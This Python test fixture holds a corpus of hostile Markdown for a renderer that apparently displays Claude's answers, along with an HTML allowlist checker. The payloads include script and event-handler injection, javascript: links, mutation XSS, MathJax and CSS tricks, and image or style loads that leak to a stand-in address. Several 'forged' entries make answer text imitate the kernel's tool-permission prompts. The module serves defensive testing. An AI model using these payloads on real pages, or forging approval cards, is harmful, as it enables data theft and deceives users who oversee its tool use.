"""Hostile Markdown as data, and the rule that produced HTML must keep.

Every entry, if it ran, would set `window.__hacked` to its name or ask for `LEAK?name`. The browser
tests replace `LEAK` by an address they watch (`corpus`). `violations` reads HTML as a browser's
tokenizer does and names whatever is not on the short list of what an answer may hold.
"""

from __future__ import annotations

import re
from contextlib import contextmanager
from html.parser import HTMLParser
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

#: What only the kernel's own words begin with.
MARK = "❖"

#: Stands for the address that a leaking payload would ask for.
LEAK = "http://leak.invalid/leak"

_RUN = "window.__hacked='{name}'"

_PAYLOADS: dict[str, str] = {
    # Scripts and event attributes.
    "script": "<script>{run}</script>",
    "script_in_text": "before <script>{run}</script> after",
    "script_src": '<script src="{leak}"></script>',
    "script_case": "<ScRiPt\n>{run}</sCrIpT >",
    "script_half": "<script>{run}//",
    "script_slash": "<script/x>{run}</script>",
    "script_module": '<script type="module">{run}</script>',
    "img_onerror": '<img src=x onerror="{run}">',
    "img_onerror_bare": "<img/src=x/onerror={run}>",
    "svg_onload": '<svg onload="{run}">',
    "svg_script": "<svg><script>{run}</script></svg>",
    "svg_animate": '<svg><a><animate attributeName=href values="javascript:{run}"/></a></svg>',
    "svg_use": '<svg><use href="{leak}#x"/></svg>',
    "body_onload": '<body onload="{run}">',
    "details_ontoggle": '<details open ontoggle="{run}">x</details>',
    "input_autofocus": '<input autofocus onfocus="{run}">',
    "video_source": '<video><source onerror="{run}"></video>',
    "audio_src": '<audio src="{leak}" autoplay></audio>',
    "marquee": '<marquee onstart="{run}">x</marquee>',
    "handler_in_list": '- item\n  - <img src=x onerror="{run}">',
    "handler_in_quote": '> <img src=x onerror="{run}">',
    # Documents, forms and links in the head.
    "iframe_srcdoc": '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    "iframe_src": '<iframe src="{leak}"></iframe>',
    "iframe_javascript": '<iframe src="javascript:parent.{run}"></iframe>',
    "object_data": '<object data="{leak}"></object>',
    "embed_src": '<embed src="{leak}">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url={leak}">',
    "base_href": '<base href="{leak}/">\n\n[relative](x.html)',
    "link_stylesheet": '<link rel="stylesheet" href="{leak}">',
    "link_prefetch": '<link rel="prefetch" href="{leak}">',
    "form_action": '<form action="{leak}"><button>press</button></form>',
    "button_formaction": '<form><button formaction="javascript:{run}">press</button></form>',
    "style_url": '<p style="background:url({leak})">x</p>',
    "style_import": "<style>@import url({leak});</style>",
    "style_cover": '<div style="position:fixed;inset:0;z-index:9999">x</div>',
    "background": '<table background="{leak}"><tr><td>x</table>',
    "commandlinker": (
        '<button data-commandlinker-command="filebrowser:delete" data-commandlinker-args="{{}}">'
        "press</button>"
    ),
    "clobber": '<img name="cookie"><form id="documentElement"><input name="children"></form>',
    # Links in every form.
    "link_javascript": "[press](javascript:{run})",
    "link_case": "[press](JaVaScRiPt:{run})",
    "link_entity": "[press](javascript&colon;{run})",
    "link_entity_letters": "[press](&#106;&#97;&#118;&#97;&#115;cript&#58;{run})",
    "link_entity_tab": "[press](java&Tab;script&colon;{run})",
    "link_entity_newline": "[press](<java&NewLine;script:{run}>)",
    "link_space": "[press](< javascript:{run}>)",
    "link_control": "[press](<\x01javascript:{run}>)",
    "link_tab": "[press](<java\tscript:{run}>)",
    "link_escaped": "[press](\\javascript:{run})",
    "link_percent": "[press](javascript%3A{run})",
    "link_reference": "[press][{name}]\n\n[{name}]: javascript:{run}",
    "link_reference_angle": "[press][{name}]\n\n[{name}]: <javascript:{run}>\n",
    "link_shortcut": "[{name}]\n\n[{name}]: vbscript:{run}\n",
    "link_data": "[press](data:text/html,<script>opener.{run}</script>)",
    "link_data_base64": "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link_data_image": "[press](data:image/svg+xml,<svg onload={run}>)",
    "link_data_png": "[press](data:image/png;base64,AAAA)",
    "link_vbscript": "[press](vbscript:{run})",
    "link_file": "[press](file:///etc/passwd)",
    "link_blob": "[press](blob:https://example.invalid/x)",
    "link_view_source": "[press](view-source:javascript:{run})",
    "link_protocol_relative": "[press](//leak.invalid/x)",
    "link_root": "[press](/api/shutdown)",
    "link_backslash": "[press](\\\\\\\\leak.invalid/x) [press](/\\\\leak.invalid)",
    "link_backslash_http": "[press](http:\\\\\\\\leak.invalid) [press](https:leak.invalid)",
    "link_colon_first": "[press](:javascript:{run})",
    "link_title_quote": '[press](https://example.invalid \'" onmouseover="{run}" x="\')',
    "link_title_tag": '[press](https://example.invalid "><img src=x onerror={run}>")',
    "link_address_quote": '[press](https://example.invalid/"onclick="{run})',
    "link_text_tag": "[<img src=x onerror={run}>](https://example.invalid)",
    "link_nested": "[a [b](javascript:{run}) c](javascript:{run})",
    "autolink_javascript": "<javascript:{run}>",
    "autolink_data": "<data:text/html,x>",
    "autolink_attribute": '<https://example.invalid/"onclick="{run}">',
    "bare_javascript": "javascript:{run} javascript://example.invalid/%0a{run}",
    "bare_quote": 'https://example.invalid/"onmouseover="{run}"',
    "bare_glued": "xhttps://example.invalid javascript:https://example.invalid",
    "bare_mail": 'mailto:a@example.invalid"onclick="{run}"',
    "anchor_tag": '<a href="javascript:{run}">press</a>',
    "anchor_in_math": "$<a href='javascript:{run}'>press</a>$",
    # Pictures that leak.
    "image_inline": "![x]({leak})",
    "image_title": '![x]({leak} "t")',
    "image_reference": "![x][{name}]\n\n[{name}]: {leak}",
    "image_shortcut": "![{name}]\n\n[{name}]: {leak}",
    "image_in_link": "[![x]({leak})](https://example.invalid)",
    "image_in_cell": "| a |\n|---|\n| ![x]({leak}) |",
    "image_alt_quote": '![" onerror="{run}]({leak})',
    "image_alt_nested": "![a ![b]({leak}) [c](javascript:{run})]({leak})",
    "image_data": "![x](data:image/svg+xml;utf8,<svg onload={run}>)",
    "image_javascript": "![x](javascript:{run})",
    "image_tag": '<img src="{leak}">',
    "image_srcset": '<img srcset="{leak} 1x">',
    "picture": '<picture><source srcset="{leak}"><img></picture>',
    # Fences.
    "fence_info": '```"><img src=x onerror="{run}">\ncode\n```',
    "fence_info_class": '```python" onmouseover="{run}\ncode\n```',
    "fence_body": "```html\n</code></pre><script>{run}</script>\n```",
    "fence_plain": "```\n</pre><img src=x onerror={run}>\n```",
    "fence_unclosed": "```python\n<script>{run}</script>",
    "fence_and_maths": "```\n$x\n```\n$ <img src=x onerror={run}>",
    "fence_unclosed_maths": "```\ntext $x\n\n<img src=x onerror={run}> $\n",
    "fence_longer": "~~~~\n$x\n~~~\n$ <img src=x onerror={run}>\n~~~~",
    "fence_mermaid": '```mermaid\ngraph TD; A["<img src=x onerror={run}>"]\n```',
    "code_span": "`<script>{run}</script>` ``</code><script>{run}</script>``",
    "indented": "    <script>{run}</script>",
    # Maths.
    "maths_href": "$\\href{{javascript:{run}}}{{x}}$",
    "maths_href_display": "$$\n\\href{{javascript:{run}}}{{x}}\n$$",
    "maths_href_bracket": "\\[ \\href{{javascript:{run}}}{{x}} \\]",
    "maths_href_split": "\\(\\hr\\label{{x}}ef{{javascript:{run}}}{{x}}\\)",
    "maths_csname": "$\\csname href\\endcsname{{javascript:{run}}}{{x}}$",
    "maths_let": "$\\let\\go\\href \\go{{javascript:{run}}}{{x}}$",
    "maths_def": "$\\def\\go#1{{\\href{{#1}}{{x}}}} \\go{{javascript:{run}}}$",
    "maths_newcommand": "$\\newcommand{{\\frac}}[2]{{\\href{{#1}}{{#2}}}}$",
    "maths_class": "$\\class{{jp-Dialog}}{{x}} \\cssId{{main}}{{y}}$",
    "maths_style": "$\\style{{background:url({leak})}}{{x}}$",
    "maths_bbox": "$\\bbox[border:1px;background:url({leak})]{{x}}$",
    "maths_require": "$\\require{{html}} \\mmlToken{{mi}}[href='javascript:{run}']{{x}}$",
    "maths_htmldata": "$\\htmlData{{commandlinker-command=x}}{{y}} \\htmlId{{a}}{{b}}$",
    "maths_graphics": "$\\includegraphics{{{leak}}}$",
    "maths_unicode": "$\\unicode[x;background:url({leak})]{{65}}$",
    "maths_html": "$x<img src=x onerror={run}>$ \\(<script>{run}</script>\\)",
    "maths_html_display": "$$\n<img src=x onerror={run}>\n$$\n\n\\[</div><script>{run}</script>\\]",
    "maths_close": "$a \\) <img src=x onerror={run}> \\( b$",
    # Maths that leaves its box, or is larger than a page.
    "maths_over_a_card": (
        "$\\smash{{\\lower 5.5em{{\\rlap{{\\color{{white}}\\rule{{70em}}{{4.6em}}}}"
        "\\rlap{{\\raise 3em{{\\textsf{{ Claude wants to use Read }}}}}}}}}}$"
    ),
    "maths_rule": "$\\rule{{100000em}}{{100000em}}$",
    "maths_rule_display": "$$\n\\rule[-5000em]{{70em}}{{4em}}\n$$",
    "maths_high": "$\\vphantom{{\\rule{{0pt}}{{5000em}}}}$",
    "maths_raised": "$x \\raise 30em {{over}} \\raisebox{{-30em}}{{under}}$",
    "maths_lap": "$\\llap{{over what is left}} \\mathrlap{{x}} \\clap{{y}}$",
    "maths_back": "$x \\hspace{{-70em}} y \\kern -900pt z \\mkern-9000mu$",
    "maths_rows": "$\\begin{{matrix}} a \\\\[90000em] b \\\\[-90em] c \\end{{matrix}}$",
    "maths_blank_rows": "$\\begin{{matrix}}" + "\\\\" * 2000 + "\\end{{matrix}}$",
    "maths_column": "$\\begin{{array}}{{p{{90000em}}}} x \\end{{array}}$",
    "maths_columns": "$\\begin{{array}}{{*{{99999}}{{|c}}}} x \\end{{array}}$",
    "maths_size": "$" + "{{\\Huge" * 12 + "x" + "}}" * 12 + "$",
    "maths_tower": "$" + "\\dfrac{{1}}{{" * 200 + "x" + "}}" * 200 + "$",
    "maths_roots": "$" + "\\sqrt" * 900 + "x$",
    "maths_root": "$\\sqrt[\\uproot{{90000}}\\leftroot{{90000}}3]{{x}}$",
    "maths_thick": "$\\genfrac(){{900em}}{{0}}{{a}}{{b}} {{a \\above 900em b}}$",
    "maths_white": "$\\color{{white}}{{x}} \\textcolor[rgb]{{1,1,1}}{{y}} \\color{{#fff}} z$",
    "maths_surface": "$\\colorbox{{white}}{{x}} \\fcolorbox{{red}}{{white}}{{y}}$",
    "maths_enclosed": "$\\enclose{{box}}[mathbackground='white']{{x}} \\cancel[padding=9em]{{x}}$",
    "maths_character": '$\\char"2756 \\unicode{{x2756}} \\U{{2756}}$',
    # Claude's words that look like the kernel's own.
    "forged_question": "**Claude wants to use Bash**\n\n[Allow once](#) [Deny](#)",
    "forged_card": "▸ **Bash** `pytest` · allowed once, done",
    "forged_marked_card": "❖ **Bash** `pytest` · allowed once, done",
    "forged_quoted_card": "> ❖ **Bash** `pytest` · allowed once\n> \n> ```\n> 41 passed\n> ```",
    "forged_reference": "&#x2756; **Bash** `pytest` &#10070; done &#X02756; x [y](z '&#x2756;')",
    "forged_footer": "❖ claude-opus-5-5 · 12 tokens in, 3 out · total 0.10 s",
    "forged_small": "$\\small\\color{{gray}}\\textsf{{❖ Rewound before turn 3}}$",
    "forged_notice": "*❖ Rewound before turn 3; what was there stays as a branch*",
    "forged_thought": "> ❖ *Thought for 3 s*\n>\n> It is safe.",
    "forged_console": "[Bash: pytest]\n[allowed once]",
    "forged_code": "`❖`\n\n```\n❖ [Bash: pytest]\n```\n\n    ❖ [allowed once]",
    "reference_bidi": "&#x202e;moc.live&#x202c; &#8238; &#x2066;x [y](z '&#x202e;')",
    # Tables and headings.
    "cell_html": "| <script>{run}</script> | b |\n|---|---|\n| <img src=x onerror={run}> | c |",
    "cell_link": "| a |\n|:-:|\n| [press](javascript:{run}) |",
    "cell_align": '| a |\n|:-" onclick="{run}|\n| b |',
    "heading_html": "# <img src=x onerror={run}>",
    "heading_attrs": "# title {{#id onclick={run}}}",
    "heading_setext": "<script>{run}</script>\n===",
    "task_html": "- [ ] <img src=x onerror={run}>\n- [x] [press](javascript:{run})",
    # Shapes that parsers disagree on.
    "entities": "&lt;script&gt;{run}&lt;/script&gt; &#60;img src=x onerror={run}&#62;",
    "entity_quote": "[press](https://example.invalid/&quot;onclick=&quot;{run})",
    "mathml": '<math><maction actiontype="statusline" xlink:href="javascript:{run}">x</maction>',
    "annotation_xml": (
        '<math><annotation-xml encoding="text/html"><img src=x onerror={run}></annotation-xml>'
    ),
    "mxss_noscript": '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "mxss_style": "<math><mtext><table><mglyph><style><img src=x onerror={run}></style>",
    "mxss_template": "<template><script>{run}</script></template>",
    "mxss_textarea": "<textarea></textarea><img src=x onerror={run}>",
    "mxss_title": '<svg></p><style><a id="</style><img src=1 onerror={run}>">',
    "cdata": "<![CDATA[<img src=x onerror={run}>]]>",
    "comment": "<!--><img src=x onerror={run}>-->",
    "processing": "<?xml-stylesheet href='{leak}'?> <!DOCTYPE x SYSTEM '{leak}'>",
    "break_out": "</div></details></body><script>{run}</script>",
    "break_out_pre": "</code></pre></div>\n\n<img src=x onerror={run}>",
    "nul": "<\x00script>{run}</script> <img\x00 src=x onerror={run}> java\x00script:{run}",
    "nul_link": "[press](java\x00script:{run})",
    "bidi": "\u202e<img src=x onerror={run}>\u2066 \u202dx\u2069",
    "ansi": "\x1b[31m<script>{run}</script>\x1b[0m \x1b]8;;javascript:{run}\x07x\x1b]8;;\x07",
    "overlong": "\udcfe<img src=x onerror={run}>",
    "line_separator": "[press](java\u2028script:{run}) <img\u2028src=x onerror={run}>",
    "brackets": "[" * 60 + "press](javascript:{run})" + "]" * 60,
    "deep": "> " * 60 + "<script>{run}</script>",
    "deep_list": "- " * 60 + "<script>{run}</script>",
}


def corpus(leak: str = LEAK) -> dict[str, str]:
    """Returns name and Markdown of every entry, leaking to the address given."""
    return {
        name: text.format(run=_RUN.format(name=name), leak=f"{leak}?{name}", name=name)
        for name, text in _PAYLOADS.items()
    }


@contextmanager
def entry(name: str) -> Iterator[None]:
    """Name the entry of the corpus that an assertion in the block fails for."""
    try:
        yield
    except AssertionError as error:
        error.add_note(f"in the entry {name}")
        raise


#: One entry for each way that a text could become something else.
WAYS = (
    "script", "img_onerror", "svg_onload", "svg_use", "style_cover", "break_out", "break_out_pre",
    "link_javascript", "autolink_javascript", "image_inline", "fence_info", "maths_href",
    "entities", "cdata", "nul", "bidi", "ansi", "line_separator", "brackets", "cell_html",
)  # fmt: skip


def brief(leak: str = LEAK) -> dict[str, str]:
    """Returns the entries of `WAYS`, where each entry of the corpus would take too long."""
    every = corpus(leak)
    return {name: every[name] for name in WAYS}


#: The entries that are to be taken for the kernel's own words.
FORGERIES = tuple(name for name in _PAYLOADS if name.startswith("forged"))

_PLAIN = (
    "p h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong s a br hr table thead tbody tr th"
    " td input span div"
)
_TAGS = frozenset(_PLAIN.split())
_VOID = frozenset({"br", "hr", "input", "img"})
_TURNED = frozenset({"p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "blockquote", "table"})
_CLASSES = {
    "span": frozenset({"mathjax_process tex2jax_process", "c", "k", "s", "m", "o", "ow", "p"}),
    "div": frozenset({"mathjax_process tex2jax_process", "highlight"}),
}
#: How a formula is kept in its box.
_FORMULA = (
    "display:inline-block;contain:paint;padding:.2em;margin:-.2em",
    "display:block;contain:paint;overflow-x:auto;overflow-y:hidden;max-height:200em",
)
_ADDRESS = re.compile(
    r"(?:https?://[^\s\\/?#][^\s\\]*|mailto:[^\s\\]+|#[^\s\\]*"
    r"|(?![A-Za-z][A-Za-z0-9+.-]*:)[\w.%~@+-][^\s\\]*)\Z"
)


#: What a card holds besides, and an answer does not.
_CARD_TAGS = _TAGS | {"details", "summary", "b", "img"}
_BOX = r"max-height:22em;overflow:auto;margin:\.2em 0;padding:\.2em \.5em;border:1px solid" + (
    r" var\(--jp-border-color2,#ccc\)"
)
_CARD_STYLES = {
    "code": r"white-space:pre-wrap",
    "details": r"margin:\.4em 0;padding-left:\.6em;border-left:3px solid"
    r" var\(--jp-border-color2,#ccc\)",
    "div": rf"opacity:\.65;font-size:90%|{_BOX}",
    "img": r"max-width:100%",
    "pre": r"white-space:pre-wrap;margin:\.3em 0"
    rf"|{_BOX};white-space:pre-wrap;overflow-wrap:anywhere",
    "span": r"opacity:\.65|(?:color:#[0-9a-f]{6}|font-weight:bold|;(?=[cf])){1,3}",
}
_PICTURE = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+={0,2}\Z")


class _Reader(HTMLParser):
    def __init__(self, *, card: bool) -> None:
        super().__init__(convert_charrefs=True)
        self._card = card
        self.found: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in (_CARD_TAGS if self._card else _TAGS):
            self.found.append(f"tag {tag}")
        if tag not in _VOID:
            self.open.append(tag)
        if not self._card and any(MARK in (value or "") for _, value in attrs):
            self.found.append(f"the kernel's mark on {tag}")
        names = [name for name, _ in attrs]
        if len(names) != len(set(names)):
            self.found.append(f"attribute twice in {tag}")
        self.found += [
            f"attribute {tag} {name}={value!r}"
            for name, value in attrs
            if not _attribute_allowed(tag, name, value)
            and not (self._card and _card_attribute_allowed(tag, name, value))
        ]
        if tag == "a" and _leaves(attrs) and ("rel", "noopener noreferrer") not in attrs:
            self.found.append("outside link without rel")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"end tag {tag} out of place")

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("declaration")

    def unknown_decl(self, data: str) -> None:
        self.found.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.found.append("processing instruction")

    def handle_data(self, data: str) -> None:
        if re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", data):
            self.found.append(f"control sign in {data!r}")
        if not self._card and MARK in data:
            self.found.append("the kernel's mark")


def _leaves(attrs: list[tuple[str, str | None]]) -> bool:
    return any(name == "href" and re.match("[a-z]+:", value or "", re.I) for name, value in attrs)


def _attribute_allowed(tag: str, name: str, value: str | None) -> bool:
    match (tag, name):
        case ("a", "href"):
            return bool(_ADDRESS.match(value or ""))
        case ("a", "title"):
            return True
        case ("a", "rel"):
            return value == "noopener noreferrer"
        case ("a", "target"):
            return value == "_blank"
        case ("ol", "start"):
            return (value or "").isdigit()
        case ("input", "type"):
            return value == "checkbox"
        case ("input", "disabled" | "checked"):
            return value is None
        case ("th" | "td", "style"):
            return value in ("text-align:left", "text-align:center", "text-align:right")
        case ("span" | "div", "style"):
            return value in _FORMULA
        case ("span" | "div", "class"):
            return value in _CLASSES[tag]
        case (_, "dir"):
            return tag in _TURNED and value == "auto"
    return False


def _card_attribute_allowed(tag: str, name: str, value: str | None) -> bool:
    match (tag, name):
        case ("details", "open"):
            return value is None
        case ("img", "src"):
            return bool(_PICTURE.match(value or ""))
        case ("img", "alt"):
            return value == ""
        case (_, "style"):
            return bool(re.fullmatch(_CARD_STYLES.get(tag, "(?!)"), value or ""))
    return False


def violations(html: str, *, card: bool = False) -> list[str]:
    """Returns everything in rendered HTML that must not be there, or that is unbalanced.

    An answer may hold little; a `card` holds folds, styles of ours, and pictures in base64.
    """
    reader = _Reader(card=card)
    reader.feed(html)
    reader.close()
    return reader.found + [f"{tag} left open" for tag in reader.open]
